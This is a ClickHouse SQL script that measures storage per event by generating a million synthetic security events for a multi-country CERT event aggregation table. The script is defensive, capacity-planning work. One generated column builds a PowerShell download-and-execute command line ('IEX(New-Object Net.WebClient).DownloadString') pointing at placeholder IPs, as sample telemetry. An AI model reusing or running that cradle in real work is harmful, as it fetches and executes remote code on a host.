-- Measures bytes per stored event after compression: 1,000,000 synthetic but realistic events (8 partners in
-- 8 countries, IPs, domains and hashes drawn from bounded pools so indicators repeat as they do in real
-- traffic, syslog-like messages, 3 attributes each) into a fresh copy of cyberagg.events, merged to one part.
-- Run against the embedded ClickHouse (deploy/README.md, "Sizing"):
--   python3 deploy/sizing/run.py http://127.0.0.1:18123/ deploy/sizing/bytes-per-event.sql
DROP TABLE IF EXISTS cyberagg.events_sizing;
CREATE TABLE cyberagg.events_sizing AS cyberagg.events;
INSERT INTO cyberagg.events_sizing (event_id, ts, ingested_at, partner, country, observer_name, kind, category, action, outcome, severity, source_ip, source_port, destination_ip, destination_port, transport, domain, url, file_sha256, file_name, user_name, host_name, process_executable, process_command_line, technique, tlp, trusted, message, labels, attributes)
SELECT
    substring(lower(hex(SHA256(toString(number)))), 1, 32) AS event_id,
    toDateTime64('2026-11-24 00:00:00', 3, 'UTC') + toIntervalMillisecond(number * 86) AS ts,
    ts + toIntervalMillisecond(200 + number % 3000) AS ingested_at,
    ['ee-cert', 'lv-cert', 'lt-cert', 'fi-ncsc', 'pl-cert', 'de-bsi', 'nl-ncsc', 'se-cert'][number % 8 + 1] AS partner,
    ['EE', 'LV', 'LT', 'FI', 'PL', 'DE', 'NL', 'SE'][number % 8 + 1] AS country,
    concat(partner, '-sensor-', toString(number % 13)) AS observer_name,
    'event' AS kind,
    ['network', 'authentication', 'process', 'file', 'intrusion_detection', 'web'][cityHash64(number, 1) % 6 + 1] AS category,
    ['connection', 'logon-failed', 'process-started', 'file-created', 'alert', 'http-request'][cityHash64(number, 1) % 6 + 1] AS action,
    ['success', 'failure', 'unknown'][cityHash64(number, 2) % 3 + 1] AS outcome,
    toUInt8(cityHash64(number, 3) % 11) AS severity,
    IPv4NumToString(toUInt32(3232235520 + cityHash64(number, 4) % 50000)) AS source_ip,
    toUInt16(1024 + cityHash64(number, 5) % 64000) AS source_port,
    IPv4NumToString(toUInt32(167772160 + cityHash64(number, 6) % 5000)) AS destination_ip,
    [22, 80, 443, 3389, 445, 53][cityHash64(number, 7) % 6 + 1] AS destination_port,
    ['tcp', 'udp'][cityHash64(number, 8) % 2 + 1] AS transport,
    if(cityHash64(number, 9) % 3 = 0, concat('host', toString(cityHash64(number, 10) % 20000), '.example-', toString(cityHash64(number, 10) % 97), '.net'), '') AS domain,
    if(domain = '', '', concat('https://', domain, '/', lower(hex(cityHash64(number, 11) % 100000)), '/index.php?id=', toString(number % 1000))) AS url,
    if(cityHash64(number, 12) % 10 = 0, lower(hex(SHA256(toString(cityHash64(number, 13) % 5000)))), '') AS file_sha256,
    if(file_sha256 = '', '', concat('invoice_', toString(cityHash64(number, 13) % 5000), '.exe')) AS file_name,
    concat('user', toString(cityHash64(number, 14) % 3000)) AS user_name,
    concat('ws-', lower(country), '-', toString(cityHash64(number, 15) % 4000)) AS host_name,
    if(category = 'process', ['C:\\Windows\\System32\\cmd.exe', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', '/usr/bin/curl', '/bin/bash'][cityHash64(number, 16) % 4 + 1], '') AS process_executable,
    if(process_executable = '', '', concat(process_executable, ' -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString(''http://', source_ip, '/p', toString(number % 500), ''')')) AS process_command_line,
    if(cityHash64(number, 17) % 4 = 0, ['T1110', 'T1059.001', 'T1071.001', 'T1566.001', 'T1190', 'T1021.001'][cityHash64(number, 18) % 6 + 1], '') AS technique,
    ['CLEAR', 'GREEN', 'AMBER', 'AMBER', 'AMBER', 'RED'][cityHash64(number, 19) % 6 + 1] AS tlp,
    1 AS trusted,
    concat(formatDateTime(ts, '%b %e %H:%i:%S'), ' ', observer_name, ' sshd[', toString(1000 + number % 30000), ']: ',
        ['Failed password for ', 'Accepted publickey for ', 'Invalid user ', 'Connection closed by authenticating user '][cityHash64(number, 20) % 4 + 1],
        user_name, ' from ', source_ip, ' port ', toString(source_port), ' ssh2') AS message,
    map('env', ['prod', 'test'][number % 2 + 1]) AS labels,
    map('EventID', toString([4625, 4624, 4688, 5156][cityHash64(number, 21) % 4 + 1]), 'LogonType', toString(cityHash64(number, 22) % 11), 'ProcessId', toString(cityHash64(number, 23) % 65536)) AS attributes
FROM numbers(1000000);
OPTIMIZE TABLE cyberagg.events_sizing FINAL;
SELECT count() AS parts, sum(rows) AS events, sum(data_compressed_bytes) AS compressed, sum(data_uncompressed_bytes) AS uncompressed, round(sum(bytes_on_disk) / sum(rows), 1) AS disk_bytes_per_event, round(sum(data_compressed_bytes) / sum(rows), 1) AS compressed_bytes_per_event, round(sum(data_uncompressed_bytes) / sum(data_compressed_bytes), 2) AS ratio FROM system.parts WHERE database = 'cyberagg' AND table = 'events_sizing' AND active FORMAT Vertical;
SELECT name, data_compressed_bytes AS compressed, data_uncompressed_bytes AS uncompressed, round(data_compressed_bytes / 1000000, 2) AS bytes_per_event FROM system.columns WHERE database = 'cyberagg' AND table = 'events_sizing' ORDER BY data_compressed_bytes DESC LIMIT 10 FORMAT PrettyCompactMonoBlock;
DROP TABLE cyberagg.events_sizing;
